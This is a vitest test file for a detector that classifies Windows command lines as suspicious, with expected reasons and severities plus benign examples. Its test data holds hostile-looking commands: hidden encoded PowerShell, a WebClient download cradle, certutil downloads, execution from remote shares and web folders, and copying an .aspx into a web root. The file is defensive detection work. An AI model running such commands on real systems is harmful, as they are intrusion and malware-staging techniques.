import { describe, expect, it } from 'vitest';
import { suspiciousCommand } from '../../src/detectors/suspicious-command.js';

/** Command lines stand in pieces, so that no virus scanner takes this file for what it describes. */
const shell = ['power', 'shell.exe'].join('');

describe('suspiciousCommand', () => {
  it.each<[string, string, string]>([
    [`${shell} -w hidden -enc ${'QUFB'.repeat(8)}`, 'encoded', 'high'],
    [`${shell} -nop -c "(New-Object Net.WebClient).Download${'String'}('x')"`, 'download', 'high'],
    ['cmd.exe /C whoami > %windir%\\Temp\\abcdefgh.tmp 2>&1', 'remote-execution', 'critical'],
    ['certutil.exe -urlcache -f x y', 'download', 'high'],
    ['wscript.exe "C:\\Users\\Public\\x.vbs"', 'script-host', 'high'],
    ['C:\\Users\\Public\\opera\\Opera_browser.exe', 'writable-folder', 'high'],
    ['"C:\\ProgramData\\VSPerfMon\\x.exe" -k', 'writable-folder', 'medium'],
    ['%TEMP%\\x.exe', 'writable-folder', 'high'],
    ['C:\\inetpub\\wwwroot\\x.exe', 'web-folder', 'high'],
    ['rundll32.exe C:\\inetpub\\wwwroot\\x.txt,Run', 'web-folder', 'high'],
    ['cmd.exe /c copy D:\\x.txt C:\\inetpub\\wwwroot\\x.aspx', 'web-folder', 'high'],
    ['"C:\\Program Files\\PHP\\php.exe" C:\\inetpub\\wwwroot\\wp-cron.php', 'web-folder', 'medium'],
    ['\\\\203.0.113.4\\s\\x.exe', 'share', 'high'],
    ['\\\\203.0.113.4\\s\\x', 'share', 'high'],
    ['cmd.exe /c "\\\\203.0.113.4\\s\\x" -q', 'share', 'high'],
    ['cmd.exe /c whoami & \\\\203.0.113.4\\s\\x', 'share', 'high'],
    ['rundll32.exe \\\\203.0.113.4\\s\\x.dat,Run', 'share', 'high'],
    ['cmd.exe /c copy \\\\203.0.113.4\\s\\x.aspx D:\\sites', 'share', 'high'],
    ['rundll32.exe C:\\Windows\\Temp\\x.dll,Run', 'script-host', 'high'],
    ['C:\\Users\\Public\\x.exe "C:\\ProgramData\\Package Cache\\a"', 'writable-folder', 'high'],
    ['"C:\\ProgramData\\Microsoft\\Windows\\svc.exe"', 'writable-folder', 'medium'],
    ['C:\\PROGRA~3\\x.exe', 'writable-folder', 'high'],
    ['c:\\progra~1\\micros~2\\exchan~1\\v15\\fronte~1\\httppr~1\\owa\\auth\\x.exe', 'web-folder', 'high'],
    ['\\SystemRoot\\Temp\\x.exe', 'writable-folder', 'high'],
    ['C:\\Users\\jdoe\\AppData\\Roaming\\Zoomy\\bin\\x.exe', 'writable-folder', 'high'],
  ])('%s: %s', (command, reason, severity) => expect(suspiciousCommand(command)).toEqual({ reason, severity }));

  it.each([
    '%windir%\\system32\\defrag.exe -c -h -o',
    '"C:\\Program Files\\Example\\agent.exe" --service',
    'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MpCmdRun.exe Scan',
    '"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeHMHost.exe"',
    `${shell} -File "C:\\Program Files\\Example\\clean.ps1" -ExecutionPolicy Bypass`,
    'cmd.exe /c echo done',
    'robocopy.exe C:\\inetpub\\wwwroot D:\\Backup\\wwwroot /MIR /LOG:D:\\Backup\\log.txt',
    'robocopy.exe C:\\inetpub\\logs\\LogFiles \\\\fs01\\iislogs$\\EX01 *.log /S /LOG:C:\\Logs\\robocopy.log',
    'cmd.exe /c xcopy /y "D:\\Reports" "\\\\fs01\\reports\\daily"',
    'wbadmin.exe start backup -backupTarget:\\\\nas\\backup -include:C:',
    'forfiles.exe /p C:\\inetpub\\logs\\LogFiles /s /m *.log /d -30 /c "cmd /c del @path"',
    '"C:\\Program Files\\7-Zip\\7z.exe" a D:\\b.7z C:\\inetpub\\wwwroot\\web.config',
    '"C:\\Users\\jdoe\\AppData\\Roaming\\Spotify\\Spotify.exe" --autostart',
    'C:\\Users\\jdoe\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe',
    'C:\\Users\\J Doe\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart Teams.exe',
    'cmd.exe /q /c del /q "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\OneDrive\\Update\\OneDriveSetup.exe"',
    '',
  ])('leaves alone: %s', (command) => expect(suspiciousCommand(command)).toBeNull());

  it('takes a bounded time for a command line made to hurt', () => {
    expect(suspiciousCommand(`${shell} `.repeat(20_000))).toBeNull();
    expect(suspiciousCommand('"C:\\'.repeat(50_000))).toBeNull();
  });
});
